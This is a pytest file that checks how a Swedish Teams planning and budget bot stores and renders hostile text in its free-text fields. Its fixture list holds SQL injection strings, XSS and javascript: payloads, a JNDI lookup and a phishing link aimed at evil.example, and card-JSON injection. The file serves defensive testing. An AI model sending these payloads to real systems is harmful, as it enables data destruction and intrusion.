"""Hostile text in every free-text field: SQL-like strings, markdown/HTML/template injection, control and
invisible characters, and 100 KB messages.

For every surface (a place where a person's own words go in) and every text:
- stored verbatim where stored — apart from the documented cleaning (Unicode NFC, control characters other
  than tab/newline removed, trimmed); text beyond the field's limit is refused with a clear message and
  nothing is stored;
- rendered harmless: the words come back only inside a ``TextRun`` (never markdown-parsed), an input's
  ``value`` or an action's hidden ``data`` — never in a ``TextBlock``, a fact, a title or a URL;
- every card stays valid Adaptive Card 1.5 under 28 KB (checked as it arrives: ``Harness.ask``/``press``).

Extension point: features that add a free-text field add a ``Surface`` to ``SURFACES`` below (how to send
the text, where it is stored, its limit).
"""

from __future__ import annotations

import re
import unicodedata
import warnings
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from datetime import date
from typing import Any

import pytest
from sqlalchemy import func, select

from bot.nlu.normalize import clean
from cards.texts import t
from storage import models
from storage.db import Store
from storage.demo import seed_demo
from tests.resilience.support import row_counts
from tests.support.cards import assert_valid_card
from tests.support.harness import ANNA, Harness, User, card_text, running

# (text, a marker that must never appear outside a TextRun/input/data); the markers survive cleaning
HOSTILE_TEXTS: tuple[tuple[str, str], ...] = (
    ("'; DROP TABLE person; --", "DROP TABLE person"),
    ("Robert'); DELETE FROM activity WHERE ('1'='1", "DELETE FROM activity"),
    ("1 OR 1=1; UPDATE budget_line SET net_cost = 0 --", "UPDATE budget_line"),
    ("**VERSAL-FET** [klicka här](https://evil.example/phish) _kursiv_ `kod`", "evil.example"),
    ("# Rubrikattack\n\n- punkt\n1. lista\n> citat", "Rubrikattack"),
    ("[![bild](https://evil.example/x.png)](javascript:alert(1))", "javascript:alert"),
    ("<script>alert('xss')</script><img src=x onerror=alert(1)>", "alert("),
    ("<b>fet</b><a href=\"https://evil.example\">länk</a>&lt;&amp;&gt;", "evil.example"),
    ("${jndi:ldap://evil.example/a} {{DATE(2018-05-15T00:00:00Z)}} ${$root.secret}", "jndi:ldap"),
    ("\"}]},{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"}", "Action.OpenUrl"),
    ("\u202eelbisivni\u202c nollbredd\u200b\u200d\ufeff", "elbisivni"),
    ("rad ett\r\nrad två\x00\x07\x1b[31mrödtext", "rödtext"),
    ("😀👩‍👩‍👧 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 Ω≈ç√ åäö ÅÄÖ", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢"),
)
BIG_TEXTS: tuple[tuple[str, str], ...] = (  # 100 KB: over every field's limit
    (("Hundrakilobytetext med **fet** och <b>html</b> och '; DROP TABLE x; -- " * 1500)[:100_000],
     "Hundrakilobytetext"),
)
NOT_UNDERSTOOD = t("not_understood", "sv")
SEED_DAY = date(2018, 5, 15)
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
TOO_LONG = ("för lång", "too long")


def cleaned(text: str) -> str:
    """What "verbatim" means for stored user text: NFC, control characters removed, trimmed."""
    return _CONTROL.sub("", unicodedata.normalize("NFC", text)).strip()


def chat_cleaned(text: str) -> str:
    """Typed text: Teams' message text without HTML tags and with whitespace collapsed (bot.nlu.normalize.clean)."""
    return cleaned(clean(text))


def exposed_strings(node: Any, where: str = "") -> list[tuple[str, str]]:
    """(location, string) of every string a client may render as markdown or show as a label/URL.

    Safe places are skipped: ``TextRun.text`` (never markdown), ``Input.*`` values/placeholders, and an
    action's ``data`` (sent back, never shown).
    """
    out: list[tuple[str, str]] = []
    if isinstance(node, dict):
        kind = node.get("type", "")
        for key, value in node.items():
            if key == "data" and str(kind).startswith("Action."):
                continue
            if kind == "TextRun" and key == "text":
                continue
            if str(kind).startswith("Input.") and key in ("value", "placeholder"):
                continue
            if isinstance(value, str):
                out.append((f"{where}/{kind or '?'}.{key}", value))
            else:
                out += exposed_strings(value, f"{where}/{kind or key}")
    elif isinstance(node, list):
        for item in node:
            out += exposed_strings(item, where)
    return out


def assert_harmless(card: dict[str, Any], marker: str) -> None:
    """No marker outside the safe places (the card itself was schema-checked when it arrived)."""
    leaks = [loc for loc, s in exposed_strings(card) if marker in s]
    assert not leaks, f"user text outside a TextRun at {leaks}"


# --- surfaces ---------------------------------------------------------------------------------------------


@dataclass
class Sent:
    cards: list[dict[str, Any]]
    stored: str | None  # what the store now holds for this text (None: nothing was stored)


@dataclass
class Context:
    store: Store
    ids: dict[str, int] = field(default_factory=dict)


@dataclass(frozen=True)
class Surface:
    name: str
    limit: int | None  # longest cleaned text that is stored; None: never stored
    send: Callable[[Harness, Context, str], Awaitable[Sent]]
    needs: tuple[str, ...] = ()  # modules that must exist (the feature that owns the field)
    chat: bool = False  # typed in chat: Teams text is cleaned first (HTML tags, whitespace: ``chat_cleaned``)
    known_gaps: tuple[tuple[str, str], ...] = ()  # (case, why it fails today): strict xfail, reported to the lead


async def _question(h: Harness, ctx: Context, text: str) -> Sent:
    got = await h.ask(text)
    assert got, "no answer to a question"
    return Sent([c for r in got for c in r.cards], None)


async def _press(h: Harness, verb: str, data: dict[str, Any]) -> list[dict[str, Any]]:
    """Press a button; the cards the person then sees (the replacing card and any message sent)."""
    before = len(h.connector.received)
    body = await h.press(verb, data)  # checks the replacing card
    cards = [body["value"]] if body.get("type") == "application/vnd.microsoft.card.adaptive" else []
    sent = [c for r in h.connector.received[before:] for c in r.cards]
    for card in sent:
        assert_valid_card(card)
    return cards + sent


async def _newest(store: Store, query: Any) -> Any:
    async with store.session() as s:
        return (await s.execute(query)).scalar()


async def _anna_activity(ctx: Context) -> tuple[int, int]:
    if "activity" not in ctx.ids:
        async with ctx.store.session() as s:
            anna = (await s.execute(select(models.Person.id).where(models.Person.aad_object_id == ANNA.aad))).scalar_one()
            ctx.ids["activity"] = (await s.execute(
                select(models.Activity.id).where(models.Activity.owner_id == anna, models.Activity.status == "pagar")
                .order_by(models.Activity.id))).scalars().first()
    async with ctx.store.session() as s:
        version = (await s.execute(select(models.Activity.version).where(models.Activity.id == ctx.ids["activity"]))).scalar_one()
    return ctx.ids["activity"], version


async def _activity_comment(h: Harness, ctx: Context, text: str) -> Sent:
    activity_id, version = await _anna_activity(ctx)
    last = await _newest(ctx.store, select(func.max(models.ActivityUpdate.id)))
    cards = await _press(h, "activity.update", {"id": activity_id, "version": version, "page": 1,
                                                f"comment_{activity_id}": text})
    cards += await _press(h, "activity.history", {"id": activity_id})
    newest = await _newest(ctx.store, select(models.ActivityUpdate).where(models.ActivityUpdate.id > (last or 0))
                           .order_by(models.ActivityUpdate.id.desc()))
    return Sent(cards, newest.comment if newest is not None else None)


async def _board_idea(h: Harness, ctx: Context, text: str) -> Sent:
    if "humlan" not in ctx.ids:
        ctx.ids["humlan"] = await _newest(ctx.store, select(models.OrgUnit.id).where(models.OrgUnit.code == "DEMO-HUMLAN"))
    last = await _newest(ctx.store, select(func.max(models.Activity.id)))
    cards = await _press(h, "board.propose", {"unit": ctx.ids["humlan"], "page": 1, "idea": text})
    newest = await _newest(ctx.store, select(models.Activity).where(models.Activity.id > (last or 0)))
    return Sent(cards, newest.title if newest is not None else None)


ERIK = User("Erik Ek", "aaaaaaaa-0000-4000-8000-000000000004")  # demo ekonom + controller for the förvaltning


async def _prognosis_note(h: Harness, ctx: Context, text: str) -> Sent:
    """'prognos äldreomsorg 152 000 tkr: <note>' (typed: chat text is cleaned first, see ``chat_cleaned``)."""
    last = await _newest(ctx.store, select(func.max(models.BudgetPrognosis.id)))
    got = await h.ask(f"prognos äldreomsorg 152 000 tkr: {text}", ERIK)
    newest = await _newest(ctx.store, select(models.BudgetPrognosis).where(models.BudgetPrognosis.id > (last or 0)))
    return Sent([c for r in got for c in r.cards], newest.note if newest is not None else None)


SURFACES: tuple[Surface, ...] = (
    Surface("question", None, _question),
    Surface("activity comment", 1000, _activity_comment, needs=("bot.handlers.activity_update",)),
    Surface("idea title (tavlan)", 200, _board_idea, needs=("bot.handlers.board_propose",)),
    Surface("prognosis note (chat)", 2000, _prognosis_note, needs=("bot.handlers.budget_prognosis",), chat=True),
    # Add new free-text fields here (e.g. prognosis notes, indicator value notes, digest texts).
)


def _cases() -> list[Any]:
    cases = []
    for surface in SURFACES:
        for kind, texts in (("hostile", HOSTILE_TEXTS), ("100 KB", BIG_TEXTS)):
            gap = dict(surface.known_gaps).get(kind)
            marks = [pytest.mark.xfail(reason=gap, strict=True)] if gap else []
            cases.append(pytest.param(surface, texts, marks=marks, id=f"{surface.name}, {kind}"))
    return cases


@pytest.mark.parametrize(("surface", "texts"), _cases())
async def test_hostile_text_is_stored_verbatim_and_shown_harmlessly(
        store: Store, surface: Surface, texts: tuple[tuple[str, str], ...]) -> None:
    for module in surface.needs:
        pytest.importorskip(module)
    await seed_demo(store, SEED_DAY)
    ctx = Context(store)
    async with running(store) as h:
        for text, marker in texts:
            before = await row_counts(store)
            sent = await surface.send(h, ctx, text)
            assert sent.cards, f"{surface.name}: no card for {text[:40]!r}"
            for card in sent.cards:
                assert_harmless(card, marker)
            expected = chat_cleaned(text) if surface.chat else cleaned(text)
            shown = " ".join(card_text(c) for c in sent.cards)
            if surface.limit is None:
                assert sent.stored is None
                assert await row_counts(store) == before  # a question writes nothing
            elif surface.chat and sent.stored is None and NOT_UNDERSTOOD in shown:
                assert await row_counts(store) == before  # a typed command not understood: nothing stored
                warnings.warn(f"{surface.name}: the command was not understood with this text: {text[:60]!r}",
                              stacklevel=1)
            elif len(expected) <= surface.limit:
                assert sent.stored == expected, f"{surface.name}: stored {sent.stored!r:.80} for {text!r:.80}"
            else:
                assert sent.stored is None, f"{surface.name}: stored a text over its limit"
                assert any(word in shown.lower() for word in TOO_LONG), f"{surface.name}: no 'too long' message"
                assert await row_counts(store) == before
        got = await h.ask("hjälp")  # still answering
        assert "Det här kan du fråga Tavla" in card_text(got[0].cards[0])

